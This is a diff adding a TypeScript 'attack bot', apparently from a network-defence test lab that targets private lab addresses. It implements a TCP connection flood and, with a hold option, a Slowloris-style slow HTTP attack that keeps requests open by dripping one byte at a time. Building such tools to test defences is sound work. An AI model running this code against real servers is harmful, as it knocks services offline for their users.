@@ -1,0 +1,76 @@
+/**
+ * A bot that opens real connections, from each of its addresses in turn.
+ *
+ *     node dist/topologies/attacks/bot.js --target 10.1.0.100 --port 80 --sources 203.0.113.66 --rate 150 --duration-ms 8000
+ *     ... --hold 150      slow connections: so many are kept open, each with a request that never ends
+ *
+ * Without `--hold`, each asks for nothing and goes away after a moment: what it costs is the connection. It ends when
+ * its time is over; `rate` is in connections a second, and a connection that breaks is opened again at that rate.
+ */
+import { connect, type Socket } from 'node:net';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { parseArgs } from 'node:util';
+import { pace } from '../probes/probe.ts';
+
+/** How long a connection of a flood stays. */
+const STAY_MS = 200;
+/** Between two bytes of a request that never ends. */
+const DRIP_MS = 4_000;
+/** At a time: a server that accepts nothing must not exhaust the machine. */
+const MOST_OPEN = 5_000;
+
+const { values } = parseArgs({
+  options: {
+    target: { type: 'string' },
+    port: { type: 'string', default: '80' },
+    sources: { type: 'string', default: '' },
+    rate: { type: 'string' },
+    hold: { type: 'string' },
+    'duration-ms': { type: 'string' },
+  },
+});
+const target = values.target ?? '';
+const sources = values.sources.split(',').filter((text) => text !== '');
+const rate = Number(values.rate);
+const duration = Number(values['duration-ms']);
+const hold = values.hold === undefined ? undefined : Number(values.hold);
+if (target === '' || !(rate > 0) || !(duration > 0)) {
+  throw new Error(
+    'usage: bot --target ADDRESS --rate N --duration-ms N [--port N] [--sources A,B] [--hold N]',
+  );
+}
+
+const open = new Set<Socket>();
+let opened = 0;
+let completed = 0;
+
+function begin(): void {
+  const from = sources[opened++ % sources.length];
+  const socket = connect({
+    host: target,
+    port: Number(values.port),
+    ...(from === undefined ? {} : { localAddress: from }),
+  });
+  open.add(socket);
+  socket.on('error', () => undefined);
+  socket.on('close', () => open.delete(socket));
+  socket.on('connect', () => {
+    completed++;
+    if (hold === undefined) {
+      setTimeout(() => socket.destroy(), STAY_MS);
+      return;
+    }
+    socket.write('GET / HTTP/1.1\r\nX: ');
+    const drip = setInterval(() => socket.write('x'), DRIP_MS);
+    socket.on('close', () => clearInterval(drip));
+  });
+}
+
+const stop = pace(1000 / rate, () => {
+  if (open.size < (hold ?? MOST_OPEN)) begin();
+});
+await sleep(duration);
+stop();
+for (const socket of open) socket.destroy();
+process.stdout.write(`${JSON.stringify({ opened, completed })}\n`);
+process.exit(0);
